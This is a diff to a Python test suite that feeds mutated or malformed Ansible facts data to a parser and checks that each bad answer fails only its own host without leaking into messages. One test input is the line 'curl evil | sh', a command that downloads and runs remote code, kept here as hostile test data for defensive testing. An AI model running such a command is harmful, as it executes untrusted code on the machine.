@@ -55,7 +55,8 @@ MUTATIONS = {
     "blade is text": facts("data['ansible_facts']['blade'] = 'x'", UNUSABLE),
     "blade is nothing": facts("data['ansible_facts']['blade'] = None", UNUSABLE),
     "a key is missing": facts("del blade['skew']", UNUSABLE, "skew"),
-    "all paths are missing": facts("blade['paths'] = {}"),
+    # It lies about its own files only, and gets them anew.
+    "all paths are missing": Mutation("if blade is not None:\n    blade['paths'] = {}", harmless=True),
     "cpu is a list": facts("blade['cpu'] = []", UNUSABLE, "cpu"),
     "units are numbers": facts("blade['units'] = {'munge': 1}", UNUSABLE, "units"),
     "users are texts": facts("blade['users'] = 'root'", UNUSABLE, "users"),
@@ -82,7 +83,7 @@ MUTATIONS = {
     "deeply nested": Mutation("raw = '{\"a\":' * 200 + '1' + '}' * 200", ("nested",)),
     "nested beyond Python": Mutation("raw = '{\"a\":' * 100000 + '1' + '}' * 100000", ("nested",)),
     "no JSON": Mutation("raw = 'curl evil | sh'"),
-    "half of a character": facts("blade['host_name'] = chr(0xd800)"),
+    "half of a character": Mutation("if blade is not None:\n    blade['host_name'] = chr(0xd800)", harmless=True),
     "attempts of words": Mutation("data['attempts'] = 'abc'", harmless=True),
     "statistics of Ansible": Mutation("data['ansible_stats'] = 5", harmless=True),
     "results of a loop": Mutation("data['results'] = [5, 'x']", harmless=True),
@@ -189,7 +190,7 @@ def test_a_hostile_answer_fails_its_own_blade_only(cluster: Lab, hostile: str, n
     for word in mutation.words:
         assert word in failure["message"], failure
     assert not failure["ours"] or "curl" not in failure["next_step"]
-    assert "curl" not in failure["message"]
+    assert "next:" not in failure["message"].lower()
 
 
 @pytest.mark.parametrize("code", [FREE_TEXT, EVERY_TEXT], ids=["free text", "every text"])
